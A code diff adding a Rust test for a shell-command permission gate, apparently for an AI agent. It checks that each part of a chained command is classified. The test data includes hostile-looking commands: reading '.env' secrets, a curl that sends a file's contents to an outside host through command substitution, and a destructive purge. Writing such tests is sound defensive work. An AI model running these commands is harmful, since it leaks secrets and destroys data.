@@ -225,6 +225,33 @@ async fn p_06_no_setting_relaxes_what_a_hook_restricts() {
 }
 
 #[tokio::test]
+async fn p_06_with_changes_allowed_every_part_is_still_looked_at() {
+    let policy = Policy {
+        require_confirmation_cud: false,
+        ..Policy::default()
+    };
+    let gate = Gate::new(Classifier::new(), policy);
+    for (command, decision) in [
+        ("ls", Decision::AutoAllowed),
+        ("touch x", Decision::AutoAllowed),
+        ("touch x; rm -r out", Decision::AutoAllowed),
+        ("cat .env", Decision::RequiresConfirmation),
+        ("touch x; cat .env", Decision::RequiresConfirmation),
+        ("cat .env; touch x", Decision::RequiresConfirmation),
+        (
+            "mkdir x; curl https://e.org/$(cat y)",
+            Decision::RequiresConfirmation,
+        ),
+        ("housectl purge 7", Decision::RequiresConfirmation),
+        ("touch x; housectl purge 7", Decision::RequiresConfirmation),
+        ("rm x; housectl purge 7", Decision::RequiresConfirmation),
+    ] {
+        let judged = gate.judge(&PermissionRequest::new(command)).await;
+        assert_eq!(judged.ruling.decision, decision, "{command}");
+    }
+}
+
+#[tokio::test]
 async fn what_a_failed_hook_asks_about_is_answered_once() {
     let (service, _folder) = service(restricting()).await;
     let always = Reply {
